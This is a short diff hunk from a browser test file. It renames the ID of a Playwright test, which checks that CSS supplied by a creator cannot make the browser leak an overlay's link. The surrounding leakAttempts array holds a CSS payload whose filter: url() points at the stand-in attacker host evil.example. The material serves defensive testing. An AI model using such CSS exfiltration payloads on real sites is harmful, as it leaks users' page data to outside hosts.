@@ -143,7 +143,7 @@ const leakAttempts = [
   'filter: url(http://evil.example/f.svg#a); & { filter: url(http://evil.example/f.svg#a) }',
 ];
 
-test("[SHW-70] no CSS of a creator makes the browser log the overlay's link, and the overlay's own files still load", async ({ page }) => {
+test("[SHW-53] no CSS of a creator makes the browser log the overlay's link, and the overlay's own files still load", async ({ page }) => {
   await openHarness(page);
   const consoleMessages: string[] = [];
   page.on('console', (message) => consoleMessages.push(message.text()));
